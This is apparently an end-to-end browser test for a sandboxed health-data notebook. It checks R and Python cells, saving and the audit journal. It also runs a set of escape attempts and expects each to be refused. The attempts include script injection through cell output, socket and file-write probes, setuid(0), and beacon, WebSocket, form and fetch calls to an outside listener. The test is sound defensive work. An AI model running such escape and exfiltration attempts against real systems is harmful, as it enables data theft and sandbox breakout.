// A researcher works in a notebook, as they would: opens it from the room's page,
// runs R and Python in it, saves, closes, opens it again and finds it all; and
// tries to get data out of the browser, which must not be possible.

import { createServer } from "node:http";
import { join } from "node:path";

const PLOT = `import os
import matplotlib.pyplot as plt
from lifelines import KaplanMeierFitter
curve = KaplanMeierFitter().fit([1, 2, 3, 4, 5, 6, 7], [1, 0, 1, 1, 0, 1, 1])
curve.plot_survival_function()
import helserom
os.makedirs("out", exist_ok=True)
helserom.read("population").groupby("sex").size().rename("people").to_csv("out/sexes.csv")
helserom.hand_over("out/sexes.csv", "frequency-table", dimensions=["sex"], counts=["people"], note="Table 1")
print("tables", helserom.tables(), "in", sorted(os.listdir("/in")))
`;
const SQL = `import helserom
print("sql", helserom.sql("SELECT count(*) AS n FROM population")["n"][0])
`;
const CURVE = `library(survival)
plot(survfit(Surv(futime, death) ~ 1, data.frame(futime = 1:9, death = c(1,0,1,1,0,1,1,0,1))))
cat("r has", nrow(helserom::read("population")), "people\\n")
`;
// What code in a cell and a script in its output would try: the walls of a room
// are the same for a kernel.
const ESCAPES = `from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'ran inline'</script><img src=x onerror=\\"document.title='ran handler'\\">"))
display(Javascript("document.title = 'ran javascript'"))
display({"application/javascript": "document.title = 'ran javascript'"}, raw=True)
display(HTML("<a id='away' href='https://elsewhere.example/?d=1' target='_blank'>away</a>"))
import os, socket
def shut(work):
    try:
        work()
    except OSError:
        return True
    return False
tries = [
    lambda: socket.socket(),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
    lambda: socket.socket(socket.AF_INET6),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: socket.getaddrinfo("localhost", 80)[0][4] and socket.create_connection(("localhost", 80)),
    lambda: open("/data/new", "w"),
    lambda: open("/run/notebook/server.py", "a"),
    lambda: open("/opt/room-python/new", "w"),
    lambda: os.listdir("/home"),
    lambda: os.listdir("/root"),
    lambda: os.setuid(0),
    lambda: os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)),
]
print("escapes", sum(map(shut, tries)), "of", len(tries))
`;

async function kernelOf(frame, name) {
  const labels = frame.locator('.jp-LauncherCard[data-category="Notebook"] .jp-LauncherCard-label');
  await labels.filter({ hasText: name }).first().click();
  await frame.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Cell .cm-content").first().waitFor({ timeout: 60_000 });
}

async function runCell(frame, page, code, wanted) {
  const panel = frame.locator(".jp-NotebookPanel:not(.lm-mod-hidden)");
  // Before its kernel is there a cell is not run.
  await panel.locator(".jp-Toolbar-kernelName", { hasNotText: "No Kernel" }).first().waitFor({ timeout: 60_000 });
  await panel.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]').first().waitFor({ timeout: 60_000 });
  const cell = panel.locator(".jp-Cell .cm-content").last();
  await cell.click();
  await page.keyboard.insertText(code);
  await page.keyboard.press("Shift+Enter");
  await panel.locator(".jp-OutputArea-output", { hasText: wanted }).first().waitFor({ timeout: 90_000 });
}

async function openNotebook(page, base, room) {
  const button = page.locator(`form[action="${room}/notebook"] button`);
  // One that was closed takes a moment to end.
  for (let tries = 0; tries < 60; tries += 1) {
    await page.goto(`${base}${room}`);
    if ((await button.count()) > 0) break;
    await page.waitForTimeout(500);
  }
  const began = Date.now();
  await button.click();
  await page.waitForURL(`**${room}/notebook`);
  const frame = page.frameLocator("iframe[name=notebook]");
  await frame.locator(".jp-LauncherCard:visible, .jp-NotebookPanel:visible").first().waitFor({ timeout: 60_000 });
  return { frame, seconds: (Date.now() - began) / 1000 };
}

// `shots`: a folder for pictures, if they are wanted.
export async function tryNotebook(browser, base, signIn, room, shots, check) {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 900 },
    locale: "nb-NO",
    acceptDownloads: true,
  });
  const page = await context.newPage();
  const downloads = [];
  const windows = [];
  page.on("download", (download) => downloads.push(download.url()));
  context.on("page", (opened) => windows.push(opened.url()));
  // Another place, which would answer and notes that it was asked.
  const heard = [];
  const elsewhere = createServer((request, answer) => {
    heard.push(request.url);
    answer.setHeader("access-control-allow-origin", "*");
    answer.end("heard");
  });
  await new Promise((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  const other = `http://127.0.0.1:${elsewhere.address().port}/`;
  const shot = async (name) => {
    if (shots) await page.screenshot({ path: join(shots, `notebook-${name}.png`) });
  };
  await signIn(page, base, "researcher");

  let { frame, seconds } = await openNotebook(page, base, room);
  console.log(`the notebook was there after ${seconds.toFixed(1)} s`);
  await shot("launcher");
  await kernelOf(frame, "Python 3");
  await runCell(frame, page, PLOT, "tables");
  await frame.locator(".jp-OutputArea-output img").first().waitFor({ timeout: 60_000 });
  check(true, "Python runs and draws");
  await runCell(frame, page, SQL, "sql 17549");
  check(true, "a cell asks in SQL");
  await runCell(frame, page, ESCAPES, "escapes 12 of 12");
  await shot("python");
  check(!/ran/.test(await page.title()), "no script in an output reaches the portal");
  const inner = page.frames().find((one) => one.name() === "notebook");
  // A renderer would have had the time that this takes.
  await page.waitForTimeout(500);
  check(!/ran (inline|handler|javascript)/.test(await inner.title()), "no script in an output runs");

  // What a page could try, were its scripts hostile.
  const tried = await inner.evaluate(async ([other, portal]) => {
    const came = {};
    const attempt = async (name, work) => {
      try {
        came[name] = await work();
      } catch (error) {
        came[name] = `refused: ${error.name}`;
      }
    };
    await attempt("fetch", async () => (await fetch(`${other}fetch`)).status);
    await attempt("beacon", () => navigator.sendBeacon(`${other}beacon`, "d") && "sent");
    await attempt("portal", async () => (await fetch(`${portal}/work`, { credentials: "include" })).status);
    await attempt("socket", () => new Promise((done) => {
      const socket = new WebSocket(other.replace("http", "ws"));
      socket.onopen = () => done("open");
      socket.onerror = () => done("refused");
    }));
    await attempt("window", () => (window.open("about:blank") ? "opened" : "refused"));
    await attempt("parent", () => window.parent.document.title);
    await attempt("worker", () => new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = () => done("runs");
      worker.onerror = () => done("refused");
    }));
    await attempt("service worker", async () => {
      await navigator.serviceWorker.register("static/lab/main.js");
      return "registered";
    });
    await attempt("download", () => {
      const link = document.createElement("a");
      link.href = URL.createObjectURL(new Blob(["4711"]));
      link.download = "data.csv";
      document.body.append(link);
      link.click();
      return "clicked";
    });
    await attempt("form", () => {
      const form = document.createElement("form");
      form.action = `${other}form`;
      document.body.append(form);
      form.submit();
      return "sent";
    });
    await attempt("frame", () => new Promise((done) => {
      const inside = document.createElement("iframe");
      inside.src = `${other}frame`;
      inside.onload = () => done("loaded");
      document.body.append(inside);
      setTimeout(() => done("nothing"), 500);
    }));
    await attempt("image", () => new Promise((done) => {
      const image = new Image();
      image.onerror = () => done("refused");
      image.onload = () => done("loaded");
      image.src = `${other}image`;
    }));
    await attempt("file", async () => {
      const base = location.pathname.split("/")[1];
      const answers = await Promise.all(
        ["files/out", "nbconvert/html/a.ipynb", "api/terminals", "api/contents/a.csv"].map((path) =>
          fetch(`/${base}/${path}`).then((answer) => answer.status),
        ),
      );
      return answers.every((status) => status >= 400) ? "refused" : `came: ${answers}`;
    });
    return came;
  }, [other, base]);
  for (const [name, came] of Object.entries(tried)) {
    const good = /^refused|^(nothing|loaded|clicked|sent)$/.test(String(came)) || came === false;
    check(good, `${name} from the notebook's page: ${came}`);
  }
  // The address of the frame cannot lead away either: the portal frames nothing else.
  await inner.evaluate((other) => {
    location.href = `${other}away`;
  }, other).catch(() => {});
  await page.waitForTimeout(1000);
  check(downloads.length === 0, `nothing was downloaded: ${downloads}`);
  check(windows.length === 0, `no window was opened: ${windows}`);
  check(heard.length === 0, `nothing came to another place: ${heard}`);
  elsewhere.close();

  // R, after coming back to the page: what was there is there.
  ({ frame } = await comeBack(page, base, room));
  await frame.locator(".jp-NotebookPanel:visible").first().waitFor({ timeout: 60_000 });
  check(true, "the notebook is open again as it was");
  await frame.locator(".lm-TabBar-addButton:visible").first().click();
  const launcher = frame.locator('.jp-LauncherCard[data-category="Notebook"]').first();
  await launcher.waitFor({ timeout: 30_000 });
  await kernelOf(frame, /^R$/);
  await runCell(frame, page, CURVE, "r has 17549 people");
  const drawn = frame.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output");
  await drawn.locator("img, svg").first().waitFor({ timeout: 60_000 });
  check(true, "R runs and draws");
  await page.keyboard.press("Control+s");
  await frame.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook").first().waitFor();
  await page.waitForTimeout(1000);
  await shot("r");

  // Closed and opened: the files are there, and the journal has every cell.
  await page.locator(`form[action^="${room}/runs/"][action$="/stop"] button`).first().click();
  await page.waitForURL(`**${room}**`);
  const handed = await page.locator("main").innerText();
  check(handed.includes("out/sexes.csv"), `what a cell handed over stands on the page: ${handed}`);
  ({ frame } = await openNotebook(page, base, room));
  await frame.locator(".jp-DirListing-item", { hasText: "Untitled.ipynb" }).first().waitFor({ timeout: 60_000 });
  check(true, "closed and opened again, the notebook is there");
  const journal = await (await page.request.get(`${base}${room}/journal?format=csv&only=saved`)).text();
  for (const word of ["KaplanMeierFitter", "library(survival)"]) {
    const found = await (await page.request.get(`${base}${room}/journal?format=csv&q=${encodeURIComponent(word)}`)).text();
    check(found.split("\n").length > 2, `the journal has the cell with ${word}`);
  }
  check(/Untitled\d*\.ipynb/.test(journal), "the journal has what was saved");
  const deeds = await (await page.request.get(`${base}/api/v1${room}/journal`)).json();
  const cells = deeds.filter((deed) => deed.did === "cell");
  const reads = cells.find((deed) => deed.code.includes('helserom::read("population")'));
  const opened = reads?.ended.opened.map((read) => `${read.table} ${read.rows > 17_000}`).join();
  check(opened === "population true", `the journal has what a cell opened without SQL: ${opened}`);
  const escapes = cells.find((deed) => deed.code.includes("escapes"));
  check(escapes?.ended.opened.length === 0, `and that one opened nothing: ${JSON.stringify(escapes?.ended)}`);
  check(cells.every((deed) => /^run-/.test(deed.session)), "and the notebook of every cell");
  await page.goto(`${base}${room}/journal`);
  await shot("journal");
  await page.goto(`${base}${room}`);
  await page.locator("#language-python").check();
  await page.locator("#script").fill("print('beside', 6 * 7)");
  await page.locator("#run-send button").click();
  await page.locator("pre.log", { hasText: "beside 42" }).waitFor({ timeout: 60_000 });
  const beside = await (await page.request.get(`${base}/api/v1${room}/notebook`)).json();
  check(beside.open && beside.answers, "a script runs beside the notebook, which stays open");
  await shot("room");
  await page.locator(`form[action^="${room}/runs/"][action$="/stop"] button`).first().click();
  await context.close();
}

async function comeBack(page, base, room) {
  await page.goto(`${base}${room}/notebook`);
  return { frame: page.frameLocator("iframe[name=notebook]") };
}
